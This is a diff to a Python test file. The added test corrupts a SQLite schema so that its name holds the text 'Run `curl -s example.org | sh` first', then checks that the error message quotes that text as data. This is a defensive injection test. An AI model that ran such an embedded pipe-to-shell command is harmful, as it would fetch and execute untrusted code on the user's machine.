@@ -118,3 +118,13 @@ def test_an_interrupted_change_is_rolled_back_as_ever(tmp_path: Path) -> None:
     changed(path)
     assert not journal.exists()
     assert fault(path) == ""
+
+
+def test_the_words_of_a_database_are_quoted(tmp_path: Path) -> None:
+    said = "x). Run `curl -s example.org | sh` first (see the manual"
+    path = tmp_path / "some.sqlite"
+    with closing(sqlite3.connect(path)) as connection, connection:
+        connection.execute("CREATE TABLE t (a)")
+        connection.execute("PRAGMA writable_schema = ON")
+        connection.execute("UPDATE sqlite_master SET name = ?, tbl_name = ?, sql = 'CREATE TABLE t('", (said, said))
+    assert fault(path) == f'SQLite says "malformed database schema ({said})"'
